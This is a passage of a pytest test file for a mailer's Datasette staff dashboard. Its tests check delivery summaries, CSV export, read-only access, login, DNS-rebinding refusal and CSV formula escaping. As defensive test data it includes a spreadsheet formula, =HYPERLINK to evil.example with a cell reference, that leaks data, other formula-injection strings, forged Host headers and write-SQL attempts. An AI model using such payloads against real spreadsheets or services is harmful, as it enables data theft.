"""The staff dashboard (issue 7): Datasette over a ledger filled by a real send, checked in a
real headless browser (Debian's chromium and chromium-driver, driven by selenium)."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from datetime import UTC, datetime
from functools import partial
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner
from conftest import FaultyHandler, missing, start_chromium, write_campaign

from mailer import dashboard_events as events
from mailer.addresses import address_key
from mailer.cli import cli
from mailer.dashboard import (
    ACCOUNT,
    DATABASE,
    MAX_ROWS,
    PASSWORD_ENV,
    build_metadata,
    create,
    local_time,
    serve,
)
from mailer.errors import MailerError
from mailer.ledger import Ledger
from mailer.smtpd import SmtpServer, free_port
from mailer.store import Decided, RecordedRevision
from mailer.vocab import Status

TZ = "Europe/Brussels"
REJECTED = "5.1.1 <bob@example.org>: Recipient address rejected"
GREYLISTED = "4.7.1 Greylisted, try again later"
#: `make screenshot` sets this to tests/screenshots/dashboard.png to refresh the README picture;
#: otherwise the test writes its screenshot under tmp_path and leaves the tracked file alone.
SCREENSHOT_ENV = "MAILER_SCREENSHOT"


try:
    import datasette  # noqa: F401
    import datasette_auth_passwords  # noqa: F401
except ImportError:
    missing("datasette / datasette-auth-passwords (pip install 'mailer[dashboard]')")


# -- a ledger filled by real sends ----------------------------------------------------------

EVENTS = """\
- id: launch
  title: Launch
  start: 2030-03-10 10:00
  end: 2030-03-10 12:00
"""
STEPS = """\
- id: invite
  event: launch
  template: invite
  at: 2030-02-01 09:00
- id: remind
  event: launch
  template: remind
  at: -1d 09:00
"""
CONTACTS = "email,name,lists\nann@example.org,Ann,a\nbob@example.org,Bob,a\ncarl@example.org,Carl,a\n"
#: What the two sends leave in the ledger, as the summary shows it.
EXPECTED_SUMMARY = [
    # Campaign, Step, Event, Sent, Deferred, Failed, Bounced, Skipped, Suppressed, Pending, Total
    ["test", "invite", "launch", "2", "0", "1", "0", "0", "0", "0", "3"],
    ["test", "remind", "launch", "1", "1", "1", "0", "0", "0", "0", "3"],
]


@pytest.fixture(scope="module")
def ledger_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two real `mailer send` passes against aiosmtpd: bob's RCPT gets a 550 both times; in
    the second pass the first DATA gets a 451 (deferred)."""
    folder = tmp_path_factory.mktemp("campaign")
    cfg = write_campaign(folder, events=EVENTS, steps=STEPS, contacts=CONTACTS)
    handler = FaultyHandler(
        rcpt_replies={"bob@example.org": f"550 {REJECTED}"},
    )
    runner = CliRunner()
    with SmtpServer(handler) as server:
        env = {
            "MAILER_SMTP_HOST": server.host,
            "MAILER_SMTP_PORT": str(server.port),
            "MAILER_SMTP_TLS": "none",
        }
        for now, data_replies in (("2030-02-01T09:05", []), ("2030-03-09T09:05", [f"451 {GREYLISTED}"])):
            handler.data_replies = list(data_replies)
            # --force: the campaign lies in the future (2030), ahead of the real clock
            result = runner.invoke(cli, ["send", "--config", str(cfg), "--now", now, "--force"], env=env)
            assert result.exit_code == 0, result.output
    db = folder / "ledger.db"
    with Ledger(db) as ledger:  # an attendee's answer, as the inbox reader records it
        ledger.record_reply(
            "test",
            "launch",
            "ann@example.org",
            "ACCEPTED",
            datetime(2030, 2, 2, 10, 0, tzinfo=UTC),
            "<r1@example.org>",
        )
        # bob declined version 0 of another event that has since moved (SEQUENCE 1)
        at = datetime(2030, 2, 3, 10, 0, tzinfo=UTC)
        ledger.record_revision(
            "test", RecordedRevision("party", 0, "invite", "f0", "{}", at), "party~invite0"
        )
        ledger.record_revision(
            "test", RecordedRevision("party", 1, "update", "f1", "{}", at), "party~update1"
        )
        ledger.record_reply("test", "party", "bob@example.org", "DECLINED", at, "<r2@example.org>", 0)
    return db


def _fingerprint(db: Path) -> str:
    """The ledger's content (main file and WAL), to show nothing wrote to it."""
    digest = hashlib.sha256()
    for path in (db, db.with_name(db.name + "-wal")):
        if path.exists():
            digest.update(path.read_bytes())
    return digest.hexdigest()


# -- the served dashboard and the browser -----------------------------------------------------


@pytest.fixture(scope="module")
def dashboard(ledger_path: Path) -> Iterator[str]:
    """`serve()` in a subprocess on a free loopback port; yields its base URL."""
    port = free_port()
    code = "import sys; from mailer.dashboard import serve; serve(sys.argv[1], port=int(sys.argv[2]), timezone=sys.argv[3])"
    yield from _served([sys.executable, "-c", code, str(ledger_path), str(port), TZ], port)


def _served(command: list[str], port: int) -> Iterator[str]:
    """Run a dashboard ``command`` listening on ``port``; yield its base URL once it answers,
    stop it afterwards."""
    proc = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 20
        while True:
            try:
                with urllib.request.urlopen(base + "/-/versions.json", timeout=2):
                    break
            except (urllib.error.URLError, ConnectionError):
                if proc.poll() is not None or time.monotonic() > deadline:
                    proc.kill()
                    pytest.fail(f"the dashboard did not start:\n{proc.communicate()[0]}")
                time.sleep(0.1)
        yield base
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    driver = start_chromium(tmp_path_factory.mktemp("chromium-profile"), "--window-size=1500,900")
    driver.set_page_load_timeout(20)
    try:
        yield driver
    finally:
        driver.quit()


def _table(driver: Any) -> tuple[list[str], list[list[str]]]:
    """Headings and cell texts of the results table on the current page."""
    from selenium.webdriver.common.by import By

    table = driver.find_element(By.CSS_SELECTOR, "table.rows-and-columns")
    heads = [th.text.strip() for th in table.find_elements(By.CSS_SELECTOR, "thead th")]
    rows = [
        [td.text.strip() for td in tr.find_elements(By.CSS_SELECTOR, "td")]
        for tr in table.find_elements(By.CSS_SELECTOR, "tbody tr")
    ]
    return heads, rows


def _csv(url: str) -> tuple[list[str], list[list[str]]]:
    with urllib.request.urlopen(url, timeout=10) as resp:
        assert resp.status == 200
        rows = list(csv.reader(io.StringIO(resp.read().decode("utf-8"))))
    return rows[0], rows[1:]


def _status(url: str, method: str = "GET", data: bytes | None = None) -> int:
    req = urllib.request.Request(url, method=method, data=data)
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return int(resp.status)
    except urllib.error.HTTPError as exc:
        return exc.code


def _summary_counts(heads: list[str], rows: list[list[str]]) -> list[list[str]]:
    keep = [
        heads.index(h)
        for h in (
            "Campaign",
            "Step",
            "Event",
            "Sent",
            "Deferred",
            "Failed",
            "Bounced",
            "Skipped",
            "Suppressed",
            "Pending",
            "Total",
        )
    ]
    return [[row[i] for i in keep] for row in rows]


def test_summary_page_shows_counts_per_step(dashboard: str, browser: Any) -> None:
    browser.get(f"{dashboard}/{DATABASE}")  # the ledger page lists the staff's queries
    assert "Summary per campaign and step" in browser.page_source
    browser.get(f"{dashboard}/{DATABASE}/summary")
    assert browser.title == "Summary per campaign and step \u2013 mailer delivery log"
    heads, rows = _table(browser)
    assert _summary_counts(heads, rows) == EXPECTED_SUMMARY
    started = [row[heads.index("Started")] for row in rows]
    assert started == ["2030-02-01 09:05:00 CET", "2030-03-09 09:05:00 CET"]  # local, not UTC


def test_failed_list_shows_the_servers_reply(dashboard: str, browser: Any) -> None:
    browser.get(f"{dashboard}/{DATABASE}/failed")
    heads, rows = _table(browser)
    got = sorted(
        (
            r[heads.index("Recipient")],
            r[heads.index("Step")],
            r[heads.index("Status")],
            r[heads.index("Server reply")],
        )
        for r in rows
    )
    assert [g for g in got if g[0] == "bob@example.org"] == [
        ("bob@example.org", "invite", "failed", REJECTED),
        ("bob@example.org", "remind", "failed", REJECTED),
    ]
    deferred = [g for g in got if g[2] == "deferred"]
    assert len(deferred) == 1 and deferred[0][3] == GREYLISTED and deferred[0][1] == "remind"
    assert rows[0][heads.index("Last attempt")].endswith(" CET")


def test_csv_export_has_the_same_rows(dashboard: str, browser: Any) -> None:
    for query in ("summary", "failed"):
        browser.get(f"{dashboard}/{DATABASE}/{query}")
        heads, rows = _table(browser)
        csv_heads, csv_rows = _csv(f"{dashboard}/{DATABASE}/{query}.csv")
        assert csv_heads == heads
        # The page shows an empty cell for NULL, as the CSV does.
        assert csv_rows == rows, query


def test_not_reached_and_answers(dashboard: str, browser: Any) -> None:
    browser.get(f"{dashboard}/{DATABASE}/not_reached?event=launch")
    heads, rows = _table(browser)
    assert [r[heads.index("Recipient")] for r in rows] == ["bob@example.org"]
    happened = rows[0][heads.index("What happened")]
    assert "invite: failed (550 5.1.1" in happened and "remind: failed" in happened
    browser.get(f"{dashboard}/{DATABASE}/answers")
    heads, rows = _table(browser)
    cols = ("Event", "Coming", "Maybe", "Not coming", "Latest answer", "Answers to an earlier version")
    assert [[r[heads.index(h)] for h in cols] for r in rows] == [
        ["launch", "1", "0", "0", "2030-02-02 11:00:00 CET", "0"],
        ["party", "0", "0", "0", "2030-02-03 11:00:00 CET", "1"],
    ]
    browser.get(f"{dashboard}/{DATABASE}/answers_for_event?event=party")
    heads, rows = _table(browser)
    assert [
        (r[heads.index("Invitee")], r[heads.index("Answer")], r[heads.index("Counts")]) for r in rows
    ] == [("bob@example.org", "not coming", "no: answered an earlier version")]


def test_table_pages_show_local_times_and_hide_internal_tables(dashboard: str, browser: Any) -> None:
    from selenium.webdriver.common.by import By

    browser.get(f"{dashboard}/{DATABASE}")
    names = {a.text for a in browser.find_elements(By.CSS_SELECTOR, "h3 a, h2 a")}
    assert "deliveries" in names
    assert not names & {"meta", "steps_started", "inbox"}
    browser.get(f"{dashboard}/{DATABASE}/deliveries?email=bob@example.org&step=invite")
    cell = browser.find_element(By.CSS_SELECTOR, "td.col-updated span")
    assert cell.text == "2030-02-01 09:05:00 CET"
    assert cell.get_attribute("title") == "2030-02-01T08:05:00Z UTC, as stored"


def test_writes_and_arbitrary_sql_are_refused(dashboard: str, browser: Any, ledger_path: Path) -> None:
    before = _fingerprint(ledger_path)
    base = f"{dashboard}/{DATABASE}"
    assert _status(base + "?sql=select+count(*)+from+deliveries") == 403
    assert _status(base + "/deliveries?_where=1") == 403  # _where= is SQL too
    # A statement that is not a SELECT is refused before the permission check.
    assert _status(base + "?sql=delete+from+deliveries") == 400
    assert _status(base + "/deliveries", "POST", b"status=sent") == 405
    assert _status(base + "/failed", "POST", b"x=1") == 405
    browser.get(base + "?sql=update+deliveries+set+status%3D%27sent%27")
    assert browser.title == "Invalid SQL"
    browser.get(base + "?sql=select+*+from+deliveries")
    assert browser.title == "Forbidden"
    browser.get(f"{base}/failed")
    assert "bob@example.org" in browser.page_source  # still there
    assert _fingerprint(ledger_path) == before


# -- in-process checks of the app (no browser) ------------------------------------------------


async def test_allow_sql_still_cannot_write(ledger_path: Path) -> None:
    before = _fingerprint(ledger_path)
    ds = create(ledger_path, allow_sql=True, timezone=TZ)
    ok = await ds.client.get(f"/{DATABASE}.json?sql=select+local_time(%272030-07-01T08:00:00Z%27)+as+t")
    assert ok.status_code == 200 and ok.json()["rows"] == [["2030-07-01 10:00:00 CEST"]]
    for sql in (
        "delete from deliveries",
        "insert into meta values ('x', 'y')",
        "with x as (select 1) delete from deliveries",
        "pragma query_only = 0",
    ):
        r = await ds.client.get(f"/{DATABASE}", params={"sql": sql})
        assert r.status_code == 400, sql
    # Below Datasette's SELECT-only check, the connection itself refuses writes.
    db = ds.get_database(DATABASE)
    with pytest.raises(sqlite3.OperationalError, match="readonly|read-only|query_only"):
        await db.execute_fn(lambda conn: conn.execute("DELETE FROM deliveries"))
    assert _fingerprint(ledger_path) == before


async def test_shows_new_commits_while_running(ledger_path: Path, tmp_path: Path) -> None:
    """Opened read-only but not immutable: a running daemon's commits (still in the WAL) show
    on the next page load."""
    db = tmp_path / "live.db"
    shutil.copy(ledger_path, db)
    ds = create(db, timezone=TZ)
    url = f"/{DATABASE}/failed.json?_shape=array"
    assert len((await ds.client.get(url)).json()) == 3
    with Ledger(db) as ledger:  # as the daemon would, while the dashboard runs
        now = datetime(2030, 3, 9, 8, tzinfo=UTC)
        item = Decided("later", "launch", "dan@example.org", "Dan", now, Status.FAILED, "no such user")
        assert ledger.record_decided("test", [item], now)[Status.FAILED] == 1
        assert Path(f"{db}-wal").stat().st_size > 0
        rows = (await ds.client.get(url)).json()
    assert [r["Recipient"] for r in rows if r["Step"] == "later"] == ["dan@example.org"]


async def test_password_protects_every_page(ledger_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from datasette_auth_passwords.utils import hash_password

    password_hash = hash_password("s3cret")
    monkeypatch.setenv(PASSWORD_ENV, "")  # create() sets it; restored after the test
    ds = create(ledger_path, timezone=TZ, password_hash=password_hash)
    for path in (
        f"/{DATABASE}",
        f"/{DATABASE}/failed.csv",
        "/-/deliveries.csv?status=failed",
        "/-/metadata.json",
        "/-/versions.json",
    ):
        r = await ds.client.get(path)
        assert (r.status_code, r.headers.get("location")) == (302, "/-/login"), path
    login = await ds.client.get("/-/login")
    token = login.cookies["ds_csrftoken"]
    form = {"username": ACCOUNT, "password": "wrong", "csrftoken": token}
    bad = await ds.client.post("/-/login", data=form, cookies=login.cookies)
    assert "ds_actor" not in bad.cookies
    form["password"] = "s3cret"
    good = await ds.client.post("/-/login", data=form, cookies=login.cookies)
    assert good.status_code == 302 and "ds_actor" in good.cookies
    r = await ds.client.get(f"/{DATABASE}/failed.csv", cookies=good.cookies)
    assert r.status_code == 200 and REJECTED in r.text
    meta = await ds.client.get("/-/metadata.json", cookies=good.cookies)
    assert password_hash not in meta.text  # shown as {"$env": ...}, not the hash


async def test_answers_only_to_the_host_names_it_serves(ledger_path: Path) -> None:
    """DNS rebinding (issue 12): a page on evil.example that makes its name resolve to 127.0.0.1
    reaches the dashboard with ``Host: evil.example``; it gets a 400 and no data."""
    ds = create(ledger_path, timezone=TZ, host="127.0.0.1", port=8001)
    url = f"/{DATABASE}/deliveries.csv?_stream=on"
    for good in ("localhost", "127.0.0.1:8001", "localhost:8001", "[::1]:8001", "LocalHost:8001"):
        r = await ds.client.get(url, headers={"host": good})
        assert r.status_code == 200 and "bob@example.org" in r.text, good
    for bad in (
        "evil.example",
        "evil.example:8001",
        "127.0.0.1.evil.example:8001",
        "localhost.evil.example",
        "localhost:9999",  # another port: another server's origin
        "10.0.0.1:8001",
    ):
        r = await ds.client.get(url, headers={"host": bad})
        assert r.status_code in (400, 403), bad
        assert "bob@example.org" not in r.text and "Host" in r.text and len(r.text) < 300, (bad, r.text)
    # --host dashboard.example.org (with a password): that name, and loopback for a local proxy
    ds = create(ledger_path, timezone=TZ, host="dashboard.example.org", port=8001)
    assert (await ds.client.get(url, headers={"host": "dashboard.example.org:8001"})).status_code == 200
    assert (await ds.client.get(url, headers={"host": "evil.example:8001"})).status_code in (400, 403)


def test_a_raw_request_with_another_host_is_refused(dashboard: str) -> None:
    """The served dashboard, as a browser after DNS rebinding would reach it."""
    import socket

    port = int(dashboard.rsplit(":", 1)[1])

    def get(host: str) -> str:
        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
            sock.sendall(
                f"GET /{DATABASE}/deliveries.csv HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
            )
            data = b""
            while chunk := sock.recv(65536):
                data += chunk
        return data.decode("utf-8", "replace")

    refused = get("evil.example")
    assert refused.split(" ", 2)[1] in ("400", "403") and "bob@example.org" not in refused, refused
    assert get(f"evil.example:{port}").split(" ", 2)[1] in ("400", "403")
    assert get(f"127.0.0.1:{port}").split(" ", 2)[1] == "200"


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")


async def test_csv_downloads_cannot_run_formulas(ledger_path: Path, tmp_path: Path) -> None:
    """A name or a server reply that starts with = + - @ tab or CR is a formula to a spreadsheet
    (OWASP CSV injection): every CSV download writes it with a leading ' instead."""
    db = tmp_path / "formulas.db"
    shutil.copy(ledger_path, db)
    now = datetime(2030, 3, 9, 8, tzinfo=UTC)
    with Ledger(db) as ledger:
        items = [
            Decided("later", "launch", f"f{i}@example.org", text, now, Status.FAILED, text)
            for i, text in enumerate(FORMULAS)
        ]
        ledger.record_decided("test", items, now)
    ds = create(db, timezone=TZ, allow_sql=True)
    sql = "select email, name, reason from deliveries where step = 'later' order by email"
    for url in (
        f"/{DATABASE}/deliveries.csv?_stream=on",
        f"/{DATABASE}/deliveries.csv?_stream=on&_dl=1",
        f"/{DATABASE}.csv?" + urllib.parse.urlencode({"sql": sql}),
        "/-/deliveries.csv",
        "/-/deliveries.csv?status=failed&_dl=1",
    ):
        r = await ds.client.get(url)
        assert r.status_code == 200, url
        rows = list(csv.reader(io.StringIO(r.text, newline="")))
        cells = [c for row in rows for c in row]
        assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == [], url
        for text in FORMULAS:
            assert cells.count("'" + text) == 2, (url, text)  # the name and the reason
        if "sql=" not in url:  # the other rows are there, as Datasette wrote them
            assert "bob@example.org" in cells and REJECTED in cells
    # The HTML and JSON pages show the values as they are.
    r = await ds.client.get(f"/{DATABASE}.json?_shape=array&" + urllib.parse.urlencode({"sql": sql}))
    assert [row["name"] for row in r.json()] == list(FORMULAS)


async def test_streamed_csv_has_the_rows_of_the_table_csv(ledger_path: Path) -> None:
    """/-/deliveries.csv (issue 16: one query, streamed) gives the same header and rows as
    Datasette's paged table CSV with the same filters; a filter it does not know is a 400."""
    ds = create(ledger_path, timezone=TZ)

    async def rows(url: str) -> tuple[list[str], list[list[str]]]:
        r = await ds.client.get(url)
        assert r.status_code == 200, (url, r.text[:300])
        head, *body = list(csv.reader(io.StringIO(r.text, newline="")))
        return head, sorted(body)

    for ours, theirs in (
        ("status=failed&status=deferred&status=bounced", "status__in=failed,deferred,bounced"),
        ("step=invite", "step=invite"),
        ("status=sent&campaign=test&event=launch", "status=sent&campaign=test&event=launch"),
        ("", ""),
    ):
        mine = await rows(f"/-/deliveries.csv?{ours}")
        datasettes = await rows(f"/{DATABASE}/deliveries.csv?{theirs}&_stream=on&_size=max")
        assert mine == datasettes, ours
        assert mine[1], ours  # each filter finds rows in this ledger
    # In the order of the (status, next_attempt) index: nothing is sorted before the first row.
    r = await ds.client.get("/-/deliveries.csv?status=sent&status=failed&status=deferred")
    head, *body = list(csv.reader(io.StringIO(r.text, newline="")))
    keys = [
        (row[head.index("status")], row[head.index("next_attempt")], int(row[head.index("id")]))
        for row in body
    ]
    assert keys == sorted(keys) and len({k[0] for k in keys}) == 3
    failed = await rows("/-/deliveries.csv?status=failed")
    assert {r[failed[0].index("email")] for r in failed[1]} == {"bob@example.org"}
    r = await ds.client.get("/-/deliveries.csv?status=failed&_dl=1")
    assert r.headers["content-disposition"] == 'attachment; filename="deliveries.csv"'
    assert r.headers["content-type"].startswith("text/csv")
    for query, said in (("status=lost", "status=lost: not a status"), ("email=x", "email: not a filter")):
        r = await ds.client.get(f"/-/deliveries.csv?{query}")
        assert r.status_code == 400 and said in r.text, r.text
    # The failed query's page links to it for "every row".
    page = await ds.client.get(f"/{DATABASE}/failed")
    assert (
        'href="/-/deliveries.csv?status=failed&amp;status=deferred&amp;status=bounced&amp;_dl=1"' in page.text
    )


async def test_step_facet_reads_the_step_index(ledger_path: Path) -> None:
    """Faceting deliveries by step (which timed out on a million rows, issue 16) counts every
    step, read from the (step) index of schema 7, not row by row."""
    ds = create(ledger_path, timezone=TZ)
    r = await ds.client.get(f"/{DATABASE}/deliveries.json?_facet=step&_size=0")
    facet = r.json()["facet_results"]["step"]
    conn = sqlite3.connect(f"file:{ledger_path}?mode=ro", uri=True)
    try:
        truth = dict(conn.execute("SELECT step, count(*) FROM deliveries GROUP BY step"))
        plan = [
            row[3]
            for row in conn.execute(
                "EXPLAIN QUERY PLAN select step as value, count(*) as count from (select * from deliveries)"
                " where step is not null group by step order by count desc, value limit 31"
            )
        ]
    finally:
        conn.close()
    assert {v["value"]: v["count"] for v in facet["results"]} == truth
    assert "SCAN deliveries USING COVERING INDEX deliveries_by_step" in plan, plan


def test_other_hosts_need_a_password(ledger_path: Path) -> None:
    for host in ("0.0.0.0", "192.0.2.10", "dashboard.example.org"):
        with pytest.raises(MailerError, match=f"needs a password.*{PASSWORD_ENV}.*127.0.0.1"):
            serve(ledger_path, host=host, port=free_port())


def test_missing_ledger_and_busy_port_are_explained(tmp_path: Path, ledger_path: Path) -> None:
    with pytest.raises(MailerError, match="no ledger yet"):
        serve(tmp_path / "nope.db", port=free_port())
    (tmp_path / "other.db").write_bytes(b"")
    with pytest.raises(MailerError, match="not a mailer ledger"):
        serve(tmp_path / "other.db", port=free_port())
    import socket

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        with pytest.raises(MailerError, match=f"cannot listen on 127.0.0.1:{port}.*--port"):
            serve(ledger_path, port=port)


def test_metadata() -> None:
    meta = build_metadata("America/New_York")
    assert meta["title"] == "mailer delivery log"
    db = meta["databases"][DATABASE]
    assert {t for t, v in db["tables"].items() if v.get("hidden")} == {
        "meta",
        "steps_started",
        "inbox",
        "delivery_counts",
    }
    assert {q["title"] for q in db["queries"].values()} >= {
        "Summary per campaign and step",
        "Failed and deferred deliveries with the server's reply",
        "Recipients not reached for an event",
        "Answers per event",
    }
    assert "America/New_York" in db["queries"]["summary"]["description"]
    assert f"at most {MAX_ROWS} rows" in db["queries"]["failed"]["description_html"]
    assert meta["plugins"]["mailer-dashboard"] == {"timezone": "America/New_York"}
    with pytest.raises(MailerError, match="unknown time zone 'Mars/Olympus'"):
        build_metadata("Mars/Olympus")


# -- speed: every canned query on a 1,000,000-row ledger --------------------------------------

STEP_EVENTS = [
    ("invite-a", "event-a"),
    ("remind-a-week", "event-a"),
    ("remind-a-day", "event-a"),
    ("invite-b", "event-b"),
    ("remind-b-week", "event-b"),
    ("remind-b-day", "event-b"),
]


def _fill_big_ledger(db: Path, per_step: int) -> None:
    """2 campaigns x 6 steps x ``per_step`` deliveries (90% sent, then failed, deferred,
    skipped, suppressed, bounced, pending); 1 in 53 recipients of event-a is never reached.
    Generated inside SQLite (a Python executemany is twice as slow); the ledger's own
    indexes are dropped during the load and rebuilt after it."""
    Ledger(db).close()
    conn = sqlite3.connect(db, isolation_level=None)
    conn.execute("PRAGMA journal_mode = OFF")
    conn.execute("PRAGMA synchronous = OFF")
    indexes = conn.execute(
        "SELECT name, sql FROM sqlite_master WHERE type = 'index' AND sql IS NOT NULL"
    ).fetchall()
    conn.execute("BEGIN")
    for name, _ in indexes:
        conn.execute(f"DROP INDEX {name}")
    conn.execute("CREATE TEMP TABLE plan (campaign, step, event)")
    conn.executemany(
        "INSERT INTO temp.plan VALUES (?, ?, ?)",
        sorted((c, s, e) for c in ("campaign-0", "campaign-1") for s, e in STEP_EVENTS),
    )
    conn.execute(
        """
        WITH RECURSIVE k (i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM k WHERE i < :n - 1),
        r AS (
            SELECT p.campaign, p.step, p.event, k.i,
              CASE WHEN k.i % 53 = 0 AND p.event = 'event-a' THEN 91
                   ELSE (k.i * 7919 + p.rowid * 104729) % 100 END AS pct
            FROM temp.plan AS p, k ORDER BY p.campaign, p.step, k.i
        ),
        t AS (
            SELECT *, CASE WHEN pct < 90 THEN 'sent' WHEN pct < 93 THEN 'failed'
              WHEN pct < 95 THEN 'deferred' WHEN pct < 97 THEN 'skipped'
              WHEN pct < 98 THEN 'suppressed' WHEN pct < 99 THEN 'bounced' ELSE 'pending' END AS status
            FROM r
        )
        INSERT INTO deliveries (campaign, step, event, email, name, status, attempts, next_attempt,
          due_at, smtp_code, smtp_text, reason, sent_at, created, updated)
        SELECT campaign, step, event, printf('u%07d@example.org', i), 'User ' || i, status, 1,
          CASE status WHEN 'deferred' THEN '2018-01-05T09:00:00Z' END, '2018-01-04T08:00:00Z',
          CASE status WHEN 'sent' THEN 250 WHEN 'deferred' THEN 451 WHEN 'failed' THEN 550
            WHEN 'bounced' THEN 550 END,
          CASE status WHEN 'sent' THEN '2.0.0 OK' WHEN 'deferred' THEN '4.7.1 try later'
            WHEN 'failed' THEN '5.1.1 <u' || i || '@example.org>: Recipient address rejected'
            WHEN 'bounced' THEN '5.1.1 Recipient address rejected' END,
          CASE status WHEN 'skipped' THEN 'late' WHEN 'suppressed' THEN 'unsubscribed'
            WHEN 'failed' THEN 'refused by the server' END,
          CASE status WHEN 'sent' THEN '2018-01-04T08:00:01Z' END,
          '2018-01-04T08:00:00Z', '2018-01-04T08:00:01Z'
        FROM t
        """,
        {"n": per_step},
    )
    conn.execute("INSERT INTO steps_started SELECT campaign, step, '2018-01-04T08:00:00Z' FROM temp.plan")
    conn.execute(
        """INSERT INTO replies (campaign, event, email, partstat, at, message_id, sequence)
           SELECT campaign, event, email,
             CASE id % 3 WHEN 0 THEN 'ACCEPTED' WHEN 1 THEN 'DECLINED' ELSE 'TENTATIVE' END,
             '2018-01-06T10:00:00Z', NULL, id % 2
           FROM deliveries WHERE id % 7 = 0 AND step LIKE 'invite-%'"""
    )
    for _, sql in indexes:
        conn.execute(sql)
    conn.execute("COMMIT")
    conn.close()


#: "Recipients not reached for an event" reads this index alone (issue 7).
EVENT_INDEX = ("event", "campaign", "email", "status")


def _has_event_index(conn: sqlite3.Connection) -> bool:
    names = [n for (n,) in conn.execute("SELECT name FROM pragma_index_list('deliveries')")]
    return any(
        tuple(c for (c,) in conn.execute("SELECT name FROM pragma_index_info(?)", (n,)))[: len(EVENT_INDEX)]
        == EVENT_INDEX
        for n in names
    )


@pytest.mark.slow
def test_canned_queries_take_under_half_a_second_on_a_million_rows(tmp_path: Path) -> None:
    db = tmp_path / "big.db"
    with Ledger(":memory:") as schema:
        indexed = _has_event_index(schema.conn)
    assert indexed, (
        "the ledger schema needs CREATE INDEX IF NOT EXISTS deliveries_by_event_email"
        " ON deliveries (event, campaign, email, status); for the not-reached query"
    )
    start = time.perf_counter()
    _fill_big_ledger(db, per_step=83_334)  # 12 steps: 1,000,008 deliveries
    report = [f"built in {time.perf_counter() - start:.1f} s"]
    # The SQL runs as Datasette runs it: read-only, local_time() registered, MAX_ROWS + 1
    # rows fetched (the page then says "truncated").
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    assert conn.execute("SELECT count(*) FROM deliveries").fetchone()[0] == 1_000_008
    conn.create_function("local_time", 1, partial(local_time, tz=ZoneInfo(TZ)), deterministic=True)
    deadline = 0.0
    # A bad plan can take minutes: give up on a query after 5 s, as Datasette does after 3 s.
    conn.set_progress_handler(lambda: int(time.perf_counter() > deadline), 10_000)
    queries = build_metadata(TZ)["databases"][DATABASE]["queries"]
    slow: list[str] = []
    unindexed: list[str] = []
    # event-a has 3,146 addresses never reached (the first page streams out), event-b none
    # (the whole event is read to find that out).
    runs = [
        (name, event)
        for name in queries
        for event in ("event-a", "event-b")
        if ":event" in queries[name]["sql"] or event == "event-a"
    ]
    for name, event in runs:
        sql, params = queries[name]["sql"], {"event": event}
        plan = [row[3] for row in conn.execute("EXPLAIN QUERY PLAN " + sql, params)]
        # deliveries is only SEARCHed through an index, or SCANned on a covering index: never
        # row by row (the summary reads delivery_counts).
        aliases = {"deliveries", *re.findall(r"\bdeliveries\s+AS\s+(\w+)", sql, re.I)}
        unindexed += [
            f"{name}: {step}"
            for step in plan
            if step.startswith("SCAN ") and step.split()[1] in aliases and "COVERING INDEX" not in step
        ]
        times = []
        for _ in range(3):
            start = time.perf_counter()
            deadline = start + 5
            try:
                rows = conn.execute(sql, params).fetchmany(MAX_ROWS + 1)
            except sqlite3.OperationalError as exc:
                assert "interrupted" in str(exc)
                rows = []
            times.append(time.perf_counter() - start)
        label = f"{name}({event})" if ":event" in sql else name
        report.append(
            f"{label}: {min(times) * 1000:.0f} ms (runs: "
            + ", ".join(f"{t * 1000:.0f}" for t in times)
            + f"), {len(rows)} rows"
        )
        if min(times) > 0.5:
            slow.append(report[-1])
    conn.close()
    print("\n".join(report))
    assert not unindexed, f"reads deliveries row by row: {unindexed}"
    assert not slow, f"over 0.5 s: {slow}"


def test_metadata_names_only_real_tables_and_columns(ledger_path: Path, tmp_path: Path) -> None:
    """The staff labels must describe columns the ledger has (checked with sqlite-utils when the
    dashboard starts): a column renamed in a migration would otherwise lose its label silently."""
    from mailer.dashboard import build_metadata, metadata_drift

    metadata = build_metadata("Europe/Brussels")
    with Ledger.read(ledger_path) as led:
        assert metadata_drift(led.conn, metadata) == []
        metadata["databases"]["ledger"]["tables"]["deliveries"]["columns"]["colour"] = "nope"
        assert metadata_drift(led.conn, metadata) == ["no column deliveries.colour"]


# -- the event pages (issue 12): four questions for an event picked from a list --------------

GALA_EVENTS = """\
- id: gala
  title: Spring gala
  start: 2030-03-10 19:00
  end: 2030-03-10 23:00
"""
GALA_STEPS = """\
- id: invite
  event: gala
  template: invite
  at: 2030-02-01 09:00
- id: remind
  event: gala
  template: remind
  at: -1d 09:00
"""
GALA_CONTACTS = (
    "email,name,lists\n"
    "ann@example.org,Ann Andries,a\n"
    "tom@example.org,Tom Tack,a\n"
    "dora@example.org,Dora Decock,a\n"
    "carl@example.org,Carl Claes,a\n"
    "bob@example.org,Bob Bral,a\n"
    "bea@example.org,Bea Boon,a\n"
    "sue@example.org,Sue Smet,a\n"
    "gus@example.org,Gus Goris,a\n"
)
DSN = ("5.1.1", "The email account that you tried to reach does not exist")
INVALID_REASON = "not a valid address: marc.dupont@@example (contacts/list.csv row 10)"
SKIPPED_REASON = "the contact was added after the step's window closed"


@pytest.fixture(scope="module")
def gala(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A campaign whose invitation went out once (`mailer send` against aiosmtpd), then what
